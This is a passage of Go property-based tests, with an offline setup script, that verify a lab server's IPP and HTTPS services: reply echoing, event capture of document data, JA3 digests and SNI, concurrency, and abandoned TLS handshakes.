	req := fmt.Sprintf("POST /printers/verif HTTP/1.1\r\nHost: printer\r\nContent-Type: application/ipp\r\nContent-Length: %d\r\n\r\n", len(body))
	stream := append([]byte(req), body...)
	conn := srv.L.DialTCP(&net.TCPAddr{IP: net.IPv4(10, 0, 0, 1), Port: 631}, &net.TCPAddr{IP: sip, Port: sport})
	if cutAt > 0 && cutAt < len(stream) {
		conn.Send(stream[:cutAt])
		conn.Send(stream[cutAt:])
	} else {
		conn.Send(stream)
	}
	if !conn.WaitClosed(60 * time.Second) {
		// a loaded machine is not a verdict: only a handler that is still there after ten
		// more minutes hangs
		if conn.WaitClosed(10 * time.Minute) {
			vlib.Open(prop).Flaky("ipp handler needed more than 60 s for one request (machine load): not judged")
			return nil
		}
		return fmt.Errorf("ipp handler did not finish within 11 minutes of a complete request (request id %d)", c.ReqID)
	}
	out := conn.Output()
	resp, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(out)), nil)
	if err != nil {
		return fmt.Errorf("no HTTP reply to a well-formed IPP request (%d reply bytes): %v", len(out), err)
	}
	rb, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 200 {
		return fmt.Errorf("HTTP status %d", resp.StatusCode)
	}
	p, err := parseIPP(rb)
	if err != nil {
		return fmt.Errorf("reply is not well-formed IPP: %v", err)
	}
	if p.version != c.Version {
		return fmt.Errorf("reply version %v, request had %v", p.version, c.Version)
	}
	if p.reqID != c.ReqID {
		return fmt.Errorf("reply request-id %d, request had %d", p.reqID, c.ReqID)
	}
	var cs, lang string
	found := false
	for _, g := range p.groups {
		if g.Tag == 0x01 {
			found = true
			for _, a := range g.Attrs {
				if a.Tag == 0x47 && a.Name == "attributes-charset" && len(a.Values) > 0 {
					cs = string(vlib.UnHex(a.Values[0]))
				}
				if a.Tag == 0x48 && a.Name == "attributes-natural-language" && len(a.Values) > 0 {
					lang = string(vlib.UnHex(a.Values[0]))
				}
			}
			break
		}
	}
	if !found || cs != c.Charset || lang != c.Lang {
		return fmt.Errorf("reply operation attributes echo charset=%q language=%q, request had %q / %q", cs, lang, c.Charset, c.Lang)
	}
	// the event
	var evs []lab.Ev
	ok := cap.WaitFor(5*time.Second, func(all []lab.Ev) bool {
		evs = lab.From(all, sip.String(), sport)
		return len(evs) >= 1
	})
	if !ok {
		return fmt.Errorf("no ipp event for the request")
	}
	if len(evs) != 1 {
		return fmt.Errorf("%d events for one request", len(evs))
	}
	ev := evs[0]
	if ev.SerErr != "" {
		return fmt.Errorf("event does not serialise: %s", ev.SerErr)
	}
	if got := ev.Str("ipp.data"); got != string(c.doc()) {
		return fmt.Errorf("event document data differs: got %d bytes %q, sent %d bytes %q", len(got), head(got), len(c.doc()), head(string(c.doc())))
	}
	if c.Op == 0x0002 {
		for _, f := range []struct{ key, want string }{{"ipp.uri", string(vlib.UnHex(c.URI))}, {"ipp.user", string(vlib.UnHex(c.User))}, {"ipp.job-name", string(vlib.UnHex(c.JobName))}} {
			if got := ev.Str(f.key); got != f.want {
				return fmt.Errorf("print job event %s=%q, encoded %q", f.key, head(got), head(f.want))
			}
		}
	}
	return nil
}

func head(s string) string {
	if len(s) > 40 {
		return s[:40] + "..."
	}
	return s
}

var strTags = []byte{0x41, 0x42, 0x44, 0x45, 0x47, 0x48, 0x49}
var attrNames = []string{"copies", "media", "sides", "job-priority", "x", "printer-resolution-x", "requested-attributes", "last-document", "a-rather-long-attribute-name-to-move-offsets", "ipp-attribute-fidelity"}

func genValue(t *rapid.T, tag byte) string {
	switch tag {
	case 0x21, 0x23: // integer, enum
		v := rapid.OneOf(rapid.Int32(), rapid.SampledFrom([]int32{0, 1, 2, 3, 0x21212121, 0x22002200, 0x03030303, 0x01000000, -1})).Draw(t, "int")
		var b [4]byte
		binary.BigEndian.PutUint32(b[:], uint32(v))
		return vlib.Hex(b[:])
	case 0x22: // boolean
		return vlib.Hex([]byte{byte(rapid.IntRange(0, 1).Draw(t, "bool"))})
	case 0x33: // rangeOfInteger
		var b [8]byte
		binary.BigEndian.PutUint32(b[:], uint32(rapid.SampledFrom([]int32{0, 1, 3, 0x33003300, 100}).Draw(t, "lo")))
		binary.BigEndian.PutUint32(b[4:], uint32(rapid.SampledFrom([]int32{1, 3, 0x03000000, 0x33333333, 0x7fffffff}).Draw(t, "hi")))
		return vlib.Hex(b[:])
	default:
		n := rapid.OneOf(rapid.IntRange(0, 12), rapid.IntRange(0, 300)).Draw(t, "slen")
		kind := rapid.IntRange(0, 2).Draw(t, "skind")
		b := make([]byte, n)
		for i := range b {
			switch kind {
			case 0:
				b[i] = byte('a' + i%26)
			case 1:
				b[i] = []byte{0x00, 0x01, 0x03, 0x21, 0x22, 0x44, 0x45, 0xff}[i%8]
			default:
				b[i] = byte(i*31 + n)
			}
		}
		return vlib.Hex(b)
	}
}

func genAttrs(t *rapid.T, max int) []ippAttr {
	n := rapid.IntRange(0, max).Draw(t, "nattr")
	tags := append([]byte{0x21, 0x22, 0x23, 0x33}, strTags...)
	var out []ippAttr
	for i := 0; i < n; i++ {
		a := ippAttr{Tag: rapid.SampledFrom(tags).Draw(t, "tag"), Name: rapid.SampledFrom(attrNames).Draw(t, "name")}
		nv := rapid.IntRange(1, 3).Draw(t, "nval")
		if a.Tag == 0x33 {
			nv = 1
		}
		for j := 0; j < nv; j++ {
			a.Values = append(a.Values, genValue(t, a.Tag))
		}
		out = append(out, a)
	}
	return out
}

func genIPP(t *rapid.T) ippCase {
	c := ippCase{
		Version: [2]byte{rapid.SampledFrom([]byte{1, 2}).Draw(t, "maj"), rapid.SampledFrom([]byte{0, 1, 2}).Draw(t, "min")},
		Op:      rapid.SampledFrom([]uint16{0x0002, 0x0002, 0x0004, 0x0009, 0x000b, 0x400b}).Draw(t, "op"),
		ReqID:   rapid.OneOf(rapid.Uint32(), rapid.SampledFrom([]uint32{0, 1, 0x03030303, 0xffffffff})).Draw(t, "reqid"),
		Charset: rapid.SampledFrom([]string{"utf-8", "us-ascii", "iso-8859-1"}).Draw(t, "charset"),
		Lang:    rapid.SampledFrom([]string{"en", "en-us", "nl-nl", ""}).Draw(t, "lang"),
		Format:  rapid.SampledFrom([]string{"application/pdf", "application/octet-stream", "image/pwg-raster", "text/plain"}).Draw(t, "format"),
	}
	c.Pre = genAttrs(t, 6)
	c.URI = genValue(t, 0x45)
	c.User = genValue(t, 0x42)
	c.JobName = genValue(t, 0x42)
	ng := rapid.IntRange(0, 2).Draw(t, "ngroups")
	for i := 0; i < ng; i++ {
		c.Groups = append(c.Groups, ippGroup{Tag: rapid.SampledFrom([]byte{0x02, 0x04, 0x02}).Draw(t, "gtag"), Attrs: genAttrs(t, 6)})
	}
	c.DocLen = rapid.OneOf(rapid.IntRange(0, 64), rapid.IntRange(0, 65536), rapid.SampledFrom([]int{0, 1, 4096, 32768, 65536})).Draw(t, "doclen")
	c.Order = genOrder(t, len(c.Pre)+6)
	return c
}

// genOrder draws the order of the n operation attributes (index 0 = charset, 1 = language, last four =
// uri, user, job name, format). The property does not tie the event / reply fields to a position in the
// group, so besides the canonical order: any permutation; charset and language each moved to a drawn
// position (biased to the two ends) with the others keeping their relative order; a rotation.
func genOrder(t *rapid.T, n int) []int {
	id := make([]int, n)
	for i := range id {
		id[i] = i
	}
	switch rapid.IntRange(0, 5).Draw(t, "orderkind") {
	case 0, 1:
		return nil
	case 2, 3:
		return rapid.Permutation(id).Draw(t, "order")
	case 4:
		out := append([]int{}, id[2:]...)
		for _, moved := range []int{0, 1} {
			at := rapid.OneOf(rapid.IntRange(0, len(out)), rapid.SampledFrom([]int{0, 1, len(out) - 1, len(out)})).Draw(t, "at")
			out = append(out[:at], append([]int{moved}, out[at:]...)...)
		}
		return out
	default:
		k := rapid.IntRange(1, n-1).Draw(t, "rot")
		return append(append([]int{}, id[k:]...), id[:k]...)
	}
}

func multiValued(c ippCase) bool {
	all := append([]ippAttr{}, c.Pre...)
	for _, g := range c.Groups {
		all = append(all, g.Attrs...)
	}
	for _, a := range all {
		if len(a.Values) > 1 {
			return true
		}
	}
	return false
}

func tagsUsed(c ippCase) string {
	seen := map[byte]bool{}
	all := append([]ippAttr{}, c.Pre...)
	for _, g := range c.Groups {
		all = append(all, g.Attrs...)
	}
	for _, a := range all {
		seen[a.Tag] = true
	}
	var s []string
	for _, t := range []byte{0x21, 0x22, 0x23, 0x33} {
		if seen[t] {
			s = append(s, fmt.Sprintf("%02x", t))
		}
	}
	if len(s) == 0 {
		return "strings-only"
	}
	return strings.Join(s, "+")
}

type ippReplay struct {
	Case ippCase `json:"case"`
	Cut  int     `json:"cut"`
}

func TestIPPRoundTrip(t *testing.T) {
	r := vlib.Open(prop)
	var rc ippReplay
	if vlib.ReplayCase("TestIPPRoundTrip", &rc) {
		if err := checkIPP(rc.Case, rc.Cut); err != nil {
			r.Violation(t, "TestIPPRoundTrip", rc, err.Error())
		}
		return
	}
	r.Rule("IPP: requests from the harness's own RFC 8010 encoder - 5 operations, operation group (attributes in canonical order charset, language, generated, uri, user, job name, format, or any permutation / charset and language moved to drawn positions / rotated) + 0..2 further groups, 0..6 generated attributes per group of every value tag the service supports (integer, boolean, enum, rangeOfInteger, text/name/keyword/uri/charset/language/mime), 1..3 values, strings 0..300 bytes, document 0..64 KiB - posted to the real ipp service through the server, optionally cut into two segments; oracle = reply echoes version/request-id/charset/language, event carries document (and for print jobs uri, user, job name) unchanged; non-trivial = >=1 multi-valued attribute")
	r.Rapid(t, "TestIPPRoundTrip", r.Pick(2500, 30000), func(rt *rapid.T) {
		c := genIPP(rt)
		for _, k := range []struct {
			id  string
			tag byte
		}{{"C17-ipp-boolean", 0x22}, {"C17-ipp-range", 0x33}} {
			if r.IsKnown(k.id) && strings.Contains(tagsUsed(c), fmt.Sprintf("%02x", k.tag)) {
				r.Excluded(k.id)
				rt.Skip("known finding excluded")
			}
		}
		cut := 0
		if rapid.Bool().Draw(rt, "cut") {
			cut = rapid.IntRange(1, 400).Draw(rt, "cutat")
		}
		fp := ""
		if multiValued(c) {
			fp = vlib.JSON(c)
		}
		r.Case(fmt.Sprintf("ipp/op=%04x/%s", c.Op, tagsUsed(c)), fp, func() interface{} { return c })
		r.Label("ipp/op-attr-order="+c.orderClass(), 1)
		if err := checkIPP(c, cut); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestIPPRoundTrip", ippReplay{c, cut}, "%v", err)
		}
	})
}

// Several IPP requests at the same time: every client must get the reply to ITS request.
type ippConcCase struct {
	Cases []ippCase `json:"requests"`
}

func checkIPPConcurrent(c ippConcCase) error {
	errs := make(chan error, len(c.Cases))
	for _, one := range c.Cases {
		go func(one ippCase) { errs <- checkIPP(one, 0) }(one)
	}
	var first error
	for range c.Cases {
		if err := <-errs; err != nil && first == nil {
			first = err
		}
	}
	return first
}

func TestIPPConcurrent(t *testing.T) {
	r := vlib.Open(prop)
	var cc ippConcCase
	if vlib.ReplayCase("TestIPPConcurrent", &cc) {
		if err := checkIPPConcurrent(cc); err != nil {
			r.Violation(t, "TestIPPConcurrent", cc, err.Error())
		}
		return
	}
	r.Rule("2..16 generated IPP requests (distinct request ids / versions / charsets) posted at the same time to the one ipp service instance; each client's reply must echo its own version, request id, charset and language and its event its own document")
	r.Rapid(t, "TestIPPConcurrent", r.Pick(150, 2500), func(rt *rapid.T) {
		n := rapid.IntRange(2, 16).Draw(rt, "n")
		var c ippConcCase
		for i := 0; i < n; i++ {
			one := genIPP(rt)
			one.ReqID = uint32(i+1)*1000003 + one.ReqID%1000
			if one.DocLen > 4096 {
				one.DocLen = one.DocLen % 4096
			}
			c.Cases = append(c.Cases, one)
		}
		r.Case("ipp/concurrent", vlib.JSON(c), func() interface{} { return map[string]interface{}{"requests": n} })
		if err := checkIPPConcurrent(c); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestIPPConcurrent", c, "%v", err)
		}
	})
}
