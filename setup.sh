#!/bin/sh
# Offline set-up: warm the Go build cache for the framework against /repo.
set -e
cd /verif
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
mkdir -p .build evidence replays
go build ./vlib/... 
go vet -tags verif ./vlib/ >/dev/null 2>&1 || true
for d in c[0-9][0-9]; do
  [ -d "$d" ] && go test -tags verif -vet=off -c -o .build/$d.test ./$d >/dev/null 2>&1 || true
done
[ -d labd ] && go build -tags verif -o .build/labd ./labd >/dev/null 2>&1 || true
echo setup done
