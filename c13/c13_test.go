package c13

import (
	"fmt"
	"net"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"pgregory.net/rapid"

	"verif/lab"
	"verif/vlib"
)

const prop = "C13"

func TestMain(m *testing.M) { vlib.Main(m, prop) }

const body = "[service.https]\ntype=\"https\"\n\n[[port]]\nport=\"tcp/443\"\nservices=[\"https\"]\n"

// One server per process: the https service generates a 4096-bit RSA key for every new
// server name, so the instance (and its certificate cache) is shared by all cases.
var (
	srvOnce sync.Once
	srv     *lab.Server
	capt    *lab.Capture
	srvErr  error
	connSeq int64
)

func server() (*lab.Server, *lab.Capture, error) {
	srvOnce.Do(func() {
		srv, capt, srvErr = lab.StartWithCapture(body, false)
	})
	return srv, capt, srvErr
}

func nextSource() (string, int) {
	n := atomic.AddInt64(&connSeq, 1)
	return fmt.Sprintf("198.51.%d.7", 100+n/60000), int(2000 + n%60000)
}

// recorded is what the connection's events say.
type recorded struct {
	events   int
	digests  []string // value of https.ja3-digest of every event that carries the field
	names    []string // value of https.server-name of every event that carries the field
	types    []string
	answered bool   // the server answered the hello with handshake records (it serves the hello) - labels only
	leave    string // how the client left - for messages
}

// How long a connection's events are looked for once the server has closed the connection
// and none (or none with the fields) has been seen. Not a timing verdict: the https service
// hands its events to the channel synchronously (service -> bus -> token channel -> capture,
// no goroutine, no queue) before Handle returns, and the server closes the connection only
// after Handle has returned, so an event the service sent is in the capture before
// WaitClosed can observe the close. The grace only guards that argument.
const missingGrace = 5 * time.Second

// exchange sends the hello (in its TCP chunks), leaves the handshake the way c.Leave says,
// waits for the server to finish with the connection and returns what was recorded for it.
func exchange(c helloCase) (*recorded, error) {
	s, cp, err := server()
	if err != nil {
		return nil, fmt.Errorf("infra: %v", err)
	}
	base := cp.Len()
	ip, port := nextSource()
	conn := s.L.DialTCP(&net.TCPAddr{IP: net.IPv4(10, 0, 0, 1), Port: 443}, &net.TCPAddr{IP: net.ParseIP(ip), Port: port})
	for _, ch := range c.chunks() {
		conn.Send(ch)
	}
	if c.Leave.late() {
		// the server has read the whole hello and either answered it and reads on, or closed.
		// Serving the first hello of a server name includes generating an RSA-4096 key.
		if conn.WaitIdle(240*time.Second) == lab.Busy {
			return nil, fmt.Errorf("infra: server neither answered the hello and read on nor closed within 240s")
		}
	}
	if c.Leave.mode() == "reset" {
		conn.Reset()
	} else {
		for _, b := range c.leaveBytes() {
			conn.Send(b)
		}
		conn.CloseWrite()
	}
	if !conn.WaitClosed(240 * time.Second) {
		return nil, fmt.Errorf("infra: server did not finish the connection within 240s of the client leaving (%s)", c.Leave.mode())
	}
	rec := collect(cp, base, ip, port, 1, true)
	out := conn.Output()
	rec.answered = len(out) > 0 && out[0] == 22
	rec.leave = c.Leave.mode()
	if c.Leave.late() {
		rec.leave += " after the server's flight"
	} else {
		rec.leave += " right behind the hello"
	}
	return rec, nil
}

func collect(cp *lab.Capture, base int, ip string, port int, want int, fields bool) *recorded {
	// Only events delivered after the case began are looked at (source addresses are
	// unique per connection anyway). See missingGrace for why the wait is not a verdict.
	var mine []lab.Ev
	snap := func(evs []lab.Ev) bool {
		mine = nil
		if base <= len(evs) {
			mine = lab.From(evs[base:], ip, port)
		}
		if len(mine) < want {
			return false
		}
		if fields {
			for _, e := range mine {
				if e.Has("https.ja3-digest") {
					return true
				}
			}
			return false
		}
		return true
	}
	cp.WaitFor(missingGrace, snap)
	cp.WaitFor(0, snap)
	rec := &recorded{}
	for _, e := range mine {
		rec.events++
		rec.types = append(rec.types, e.Str("category")+"/"+e.Str("type"))
		if e.Has("https.ja3-digest") {
			rec.digests = append(rec.digests, e.Str("https.ja3-digest"))
		}
		if e.Has("https.server-name") {
			rec.names = append(rec.names, e.Str("https.server-name"))
		}
	}
	return rec
}

// compare applies the statement to one connection whose complete, well-formed hello was
// delivered and which the server has finished with: the hello's JA3 digest is recorded with
// the connection's events - at least one event carries it, whether or not the handshake
// completed - every recorded digest is the reference digest, and the recorded server name
// is the SNI sent.
func compare(what string, ref *refHello, rec *recorded) error {
	want := ref.ja3Digest()
	for _, d := range rec.digests {
		if d != want {
			return fmt.Errorf("%s: recorded https.ja3-digest %q, the specification's JA3 of the hello sent is %q (JA3 string %q); events %v", what, d, want, ref.ja3String(), rec.types)
		}
	}
	if ref.HasSNI {
		for _, n := range rec.names {
			if n != ref.SNI {
				return fmt.Errorf("%s: recorded https.server-name %q, SNI sent %q; events %v", what, n, ref.SNI, rec.types)
			}
		}
	}
	how := ""
	if rec.leave != "" {
		how = fmt.Sprintf(" (client left: %s; server answered the hello with a handshake flight: %v)", rec.leave, rec.answered)
	}
	if len(rec.digests) == 0 {
		return fmt.Errorf("%s: the complete hello was delivered and the server has closed the connection, but no event of the connection carries https.ja3-digest (events of the connection: %v): the JA3 %q (%s) of this hello was not recorded%s", what, rec.types, ref.ja3String(), want, how)
	}
	if ref.HasSNI && len(rec.names) == 0 {
		return fmt.Errorf("%s: no event of the connection carries https.server-name although the hello sent SNI %q (events %v)%s", what, ref.SNI, rec.types, how)
	}
	return nil
}

type outcome struct {
	compared int // digests compared
	events   int
	answered int // connections (of the two) whose hello the server answered with a handshake flight
}

func checkHello(c helloCase) (outcome, error) {
	var o outcome
	a := c
	b := c.regreased()
	refA, err := parseFirstHello(a.stream(), false)
	if err != nil {
		return o, fmt.Errorf("infra: generator produced a hello the reference cannot read: %v", err)
	}
	refB, err := parseFirstHello(b.stream(), false)
	if err != nil {
		return o, fmt.Errorf("infra: generator produced a re-GREASEd hello the reference cannot read: %v", err)
	}
	if refA.ja3String() != refB.ja3String() {
		return o, fmt.Errorf("infra: re-drawing GREASE changed the reference JA3 string: %q vs %q", refA.ja3String(), refB.ja3String())
	}
	var recA, recB *recorded
	var errA, errB error
	var wg sync.WaitGroup
	wg.Add(2)
	go func() { defer wg.Done(); recA, errA = exchange(a) }()
	go func() { defer wg.Done(); recB, errB = exchange(b) }()
	wg.Wait()
	if errA != nil {
		return o, errA
	}
	if errB != nil {
		return o, errB
	}
	o.events = recA.events + recB.events
	o.compared = len(recA.digests) + len(recB.digests)
	for _, rec := range []*recorded{recA, recB} {
		if rec.answered {
			o.answered++
		}
	}
	if err := compare("hello", refA, recA); err != nil {
		return o, err
	}
	if err := compare("hello with re-drawn GREASE values", refB, recB); err != nil {
		return o, err
	}
	// metamorphic relation, stated directly on the recorded values
	for _, da := range recA.digests {
		for _, db := range recB.digests {
			if da != db {
				return o, fmt.Errorf("hellos differing only in GREASE values were recorded with different digests %q and %q", da, db)
			}
		}
	}
	return o, nil
}

func label(c helloCase, ref *refHello) string {
	s := c.shape()
	g := "plain"
	switch {
	case s.grease > 0 && (s.unknown > 0 || s.dup > 0):
		g = "grease+unknown"
	case s.grease > 0:
		g = "grease"
	case s.dup > 0:
		g = "dup"
	case s.unknown > 0:
		g = "unknown"
	}
	rec := "1"
	if ref.NRecords > 4 {
		rec = "5+"
	} else if ref.NRecords > 1 {
		rec = "2-4"
	}
	sni := "nosni"
	if ref.HasSNI {
		sni = "sni"
	}
	return fmt.Sprintf("hello/v=%04x/%s/%s/records=%s", c.Ver, g, sni, rec)
}

const ruleText = "structural ClientHello generator (legacy version SSL3..TLS1.2, 1..40 cipher suites from known/GREASE/SCSV/near-GREASE/random values, 0..20 extensions: SNI from a 4-name alphabet incl. a mixed-case name, supported_groups with GREASE, ec_point_formats with 0..3 formats, well-formed known types, unknown types with empty/random bodies, GREASE types, duplicated types other than server_name/supported_groups/ec_point_formats, random order) x record-layer fragmentation (1..n records, cuts inside the handshake header) x TCP segmentation, sent to the https service through the real server x the point at which the client abandons the handshake (FIN, close_notify, another warning alert, a fatal alert, a record cut short at a boundary-biased offset, a bogus key-exchange flight - each queued right behind the hello or sent after the server's flight / refusal - or a reset after the server's flight); each case also sends the same hello with re-drawn GREASE values; oracle = once the server has closed the connection at least one event of the connection carries https.ja3-digest (and https.server-name when SNI was sent), independent JA3 of the raw bytes sent == https.ja3-digest of every event of the connection, https.server-name == SNI sent, both hellos recorded with the same digest; non-trivial = hello has >=1 GREASE value or >=1 unknown or duplicated extension"

func runHello(t *testing.T, name string, checks, maxCiphers, maxExts int) {
	r := vlib.Open(prop)
	r.Rule(ruleText)
	var rc helloCase
	if vlib.ReplayCase(name, &rc) {
		if _, err := checkHello(rc); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				t.Fatalf("%v", err)
			}
			r.Violation(t, name, rc, err.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	if _, _, err := server(); err != nil {
		t.Fatalf("infra: %v", err)
	}
	r.Rapid(t, name, checks, func(rt *rapid.T) {
		c := genCase(rt, maxCiphers, maxExts)
		ref, err := parseFirstHello(c.stream(), false)
		if err != nil {
			rt.Fatalf("infra: generator produced a hello the reference cannot read: %v", err)
		}
		fp := ""
		if c.shape().nontrivial() {
			fp = vlib.JSON(c)
		}
		r.Case(label(c, ref), fp, func() interface{} {
			return map[string]interface{}{"case": c, "ja3": ref.ja3String(), "digest": ref.ja3Digest(), "sni": ref.SNI}
		})
		o, err := checkHello(c)
		if err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, name, c, "%v", err)
		}
		if o.compared > 0 {
			r.Label(fmt.Sprintf("outcome/digest-compared/v=%04x", c.Ver), int64(o.compared))
		}
		labelLeave(r, c, o)
	})
}

// labelLeave counts the connections per abandonment point, apart for hellos the server
// answered with its handshake flight (it serves them) and hellos it refused.
func labelLeave(r *vlib.Run, c helloCase, o outcome) {
	when := "early"
	if c.Leave.late() {
		when = "late"
	}
	if o.answered > 0 {
		r.Label("leave/answered/"+c.Leave.mode()+"/"+when, int64(o.answered))
	}
	if o.answered < 2 {
		r.Label("leave/refused/"+c.Leave.mode()+"/"+when, int64(2-o.answered))
	}
}

func TestHello(t *testing.T) {
	r := vlib.Open(prop)
	runHello(t, "TestHello", r.Pick(2500, 30000), 40, 20)
}

// TestHelloSmall keeps hellos small so that shrunk counterexamples and the dense part of
// the space (few ciphers, few extensions) are well covered.
func TestHelloSmall(t *testing.T) {
	r := vlib.Open(prop)
	runHello(t, "TestHelloSmall", r.Pick(1500, 15000), 4, 4)
}

// ---------------------------------------------------------------- reference self-test

// The two examples of the JA3 README pin the reference implementation itself.
func TestReferenceKAT(t *testing.T) {
	if vlib.Replaying() {
		return
	}
	c1 := helloCase{RecVer: 0x0301, Ver: 769, Ciphers: []uint16{47, 53, 5, 10, 49161, 49162, 49171, 49172, 50, 56, 19, 4},
		Exts: []ext{{Type: 0, Body: vlib.Hex(sniBody("a.test"))}, {Type: 10, Body: vlib.Hex(groupsBody([]uint16{23, 24, 25}))}, {Type: 11, Body: vlib.Hex(pointsBody([]uint8{0}))}},
		Compression: []int{0}}
	c2 := helloCase{RecVer: 0x0301, Ver: 769, Ciphers: []uint16{4, 5, 10, 9, 100, 98, 3, 6, 19, 18, 99}, Compression: []int{0}}
	for i, tc := range []struct {
		c      helloCase
		s, md5 string
	}{
		{c1, "769,47-53-5-10-49161-49162-49171-49172-50-56-19-4,0-10-11,23-24-25,0", "ada70206e40642a3e4461f35503241d5"},
		{c2, "769,4-5-10-9-100-98-3-6-19-18-99,,,", "de350869b8c85de67a350c8d186f11e6"},
	} {
		ref, err := parseFirstHello(tc.c.stream(), false)
		if err != nil {
			t.Fatalf("infra: reference cannot read KAT %d: %v", i, err)
		}
		if ref.ja3String() != tc.s || ref.ja3Digest() != tc.md5 {
			t.Fatalf("infra: reference JA3 disagrees with the JA3 README example %d: %q %s", i, ref.ja3String(), ref.ja3Digest())
		}
	}
}

// ---------------------------------------------------------------- pinned cases

// Minimal hellos for the defects this check found (fixed in /repo); they stay as
// deterministic regression cases next to the generated search.
func pinned() map[string]helloCase {
	base := func() helloCase {
		return helloCase{RecVer: 0x0301, Ver: 0x0303, Random: strings.Repeat("ab", 32), Ciphers: []uint16{0xc02f, 0x002f}, Compression: []int{0}}
	}
	m := map[string]helloCase{}
	c := base()
	c.Ciphers = []uint16{0x6a6a, 0xc02f, 0x002f}
	c.Regrease = []int{1}
	m["grease-cipher"] = c
	c = base()
	c.Exts = []ext{{Type: 10, Body: vlib.Hex(groupsBody([]uint16{0x2a2a, 29, 23})), Kind: "groups"}, {Type: 11, Body: vlib.Hex(pointsBody([]uint8{0})), Kind: "points"}}
	c.Regrease = []int{9}
	m["grease-group"] = c
	c = base()
	c.Exts = []ext{{Type: 0xdada, Body: "", Kind: "grease"}, {Type: 0, Body: vlib.Hex(sniBody("a.test")), Kind: "sni"}, {Type: 23, Body: "", Kind: "unknown"}, {Type: 0x3a3a, Body: "00", Kind: "grease"}}
	c.Regrease = []int{4, 4}
	m["grease-extension"] = c
	c = base()
	c.Ver = 0x0300
	c.RecVer = 0x0300
	c.Ciphers = []uint16{0x000a, 0x0005, 0x0004}
	m["ssl3-hello"] = c
	c = base()
	c.Ver = 0x0300
	c.Exts = []ext{{Type: 0, Body: vlib.Hex(sniBody("example.com")), Kind: "sni"}}
	m["ssl3-hello-sni"] = c
	c = base()
	c.Ciphers = []uint16{0xc02f, 0x5600}
	c.Ver = 0x0301
	m["fallback-scsv"] = c
	c = base()
	c.Ciphers = []uint16{0x1301, 0xeaea} // nothing the server supports
	c.Regrease = []int{0}
	m["no-common-cipher"] = c
	return m
}

type pinnedCase struct {
	Name  string    `json:"name"`
	Hello helloCase `json:"hello"`
}

func TestPinned(t *testing.T) {
	r := vlib.Open(prop)
	var pc pinnedCase
	if vlib.ReplayCase("TestPinned", &pc) {
		if _, err := checkHello(pc.Hello); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				t.Fatalf("%v", err)
			}
			r.Violation(t, "TestPinned", pc, err.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	if i, _ := r.Shard(); i != 0 {
		return
	}
	pins := pinned()
	var names []string
	for name := range pins {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		c := pins[name]
		ref, err := parseFirstHello(c.stream(), false)
		if err != nil {
			t.Fatalf("infra: pinned %s: %v", name, err)
		}
		fp := ""
		if c.shape().nontrivial() {
			fp = "pinned/" + name
		}
		r.Case("pinned/"+name, fp, func() interface{} { return map[string]interface{}{"case": c, "ja3": ref.ja3String()} })
		o, err := checkHello(c)
		if err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				t.Fatalf("%v", err)
			}
			r.Violation(t, "TestPinned", pinnedCase{name, c}, err.Error())
			continue
		}
		if o.compared > 0 {
			r.Label(fmt.Sprintf("outcome/digest-compared/v=%04x", c.Ver), int64(o.compared))
		}
	}
}

// ---------------------------------------------------------------- abandonment points, enumerated

// leaveHellos are hellos the service serves (TLS 1.0..1.2, null compression, suites the
// stack has, RSA and ECDHE key exchange) plus one it refuses, with few server names (each
// new name costs the service an RSA-4096 key).
func leaveHellos() map[string]helloCase {
	m := map[string]helloCase{}
	for _, ver := range []uint16{0x0301, 0x0302, 0x0303} {
		c := helloCase{RecVer: 0x0301, Ver: ver, Random: strings.Repeat("5c", 32), Compression: []int{0},
			Ciphers: []uint16{0x7a7a, 0xc02f, 0xc013, 0x002f, 0x0035},
			Exts: []ext{{Type: 0x1a1a, Body: "", Kind: "grease"}, {Type: 0, Body: vlib.Hex(sniBody("a.test")), Kind: "sni"},
				{Type: 23, Body: "", Kind: "unknown"},
				{Type: 10, Body: vlib.Hex(groupsBody([]uint16{0x4a4a, 29, 23})), Kind: "groups"}, {Type: 11, Body: vlib.Hex(pointsBody([]uint8{0})), Kind: "points"}},
			Regrease: []int{3, 9, 12}}
		m[fmt.Sprintf("ecdhe-sni/v=%04x", ver)] = c
		d := helloCase{RecVer: ver, Ver: ver, Random: strings.Repeat("c5", 32), Compression: []int{0},
			Ciphers:  []uint16{0x002f, 0x0a0a, 0x0035, 0x000a},
			Exts:     []ext{{Type: 0xff01, Body: "00", Kind: "known"}, {Type: 0xbaba, Body: "00", Kind: "grease"}},
			Regrease: []int{6, 2}}
		m[fmt.Sprintf("rsa-nosni/v=%04x", ver)] = d
	}
	c := m["ecdhe-sni/v=0303"]
	c.Ver = 0x0300
	m["refused-sni/v=0300"] = c
	return m
}

type leaveCase struct {
	Name  string    `json:"name"`
	Hello helloCase `json:"hello"`
}

// TestLeave enumerates hello x abandonment point x {right behind the hello, after the
// server's flight} x every alert description / cut offset class, so that the dimension is
// covered whatever the sampled tests draw.
func TestLeave(t *testing.T) {
	const name = "TestLeave"
	r := vlib.Open(prop)
	r.Rule("enumerated: 6 hellos the service serves (TLS1.0..1.2 x {ECDHE with SNI, RSA without}; GREASE cipher/extension/group, unknown extension) + 1 it refuses x abandonment point {FIN, close_notify, warning alert (each description), fatal alert (each description), record cut after {1,4,5,6,9,74} of 75 bytes, bogus key-exchange flight {0,66,258 bytes}, reset} x {right behind the hello, after the server's flight} x {records carry the hello's legacy version, its record version}; same oracle as the sampled hellos (non-trivial: all)")
	var rc leaveCase
	if vlib.ReplayCase(name, &rc) {
		if _, err := checkHello(rc.Hello); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				t.Fatalf("%v", err)
			}
			r.Violation(t, name, rc, err.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
